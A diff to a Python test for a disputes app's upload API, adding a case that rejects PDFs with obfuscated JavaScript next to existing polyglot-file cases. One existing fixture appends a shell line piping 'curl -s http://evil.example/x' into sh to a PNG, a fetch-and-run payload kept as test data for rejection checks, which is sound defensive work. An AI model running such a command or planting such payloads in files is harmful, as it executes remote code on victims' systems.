@@ -1,6 +1,6 @@
 """Every API upload path (refunds, intervention cases and their evidence, force-majeure claims) stores a file
-under the extension of its detected content, keeps the client's name only cleaned, and refuses polyglots with
-their stable code, storing nothing."""
+under the extension of its detected content, keeps the client's name only cleaned, and refuses polyglots and
+active PDFs with their stable codes, storing nothing."""
 
 from datetime import datetime, timedelta
 
@@ -11,7 +11,7 @@ from disputes.models import EvidenceItem, ForceMajeureEvidence, RefundEvidence
 from disputes.services.interventions.workflow import intervention_accept
 from tests import factories as f
 from tests.api.helpers import BJ, T0, dispatch, raise_request, token_client
-from tests.evidence.files import jpeg, png, upload, zip_archive
+from tests.evidence.files import jpeg, pdf_with_script, png, upload, zip_archive
 from tests.services.refund_helpers import signed_item
 from tests.services.test_intervention_helpers import at, open_case, refused_refund, stored_files
 
@@ -90,8 +90,9 @@ def test_a_long_client_name_is_kept_cut_with_its_extension(path):
     [
         (jpeg() + zip_archive(), "evidence_polyglot"),
         (png() + b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n", "evidence_polyglot"),
+        (pdf_with_script(javascript=b"/J#61vaScript", js=b"/#4AS"), "evidence_pdf_active_content"),
     ],
-    ids=["jpeg+zip", "png+trailing"],
+    ids=["jpeg+zip", "png+trailing", "pdf+script"],
 )
 def test_a_refused_file_reaches_the_client_as_its_code_and_nothing_is_stored(path, media_root, data, code):
     model = path[3]
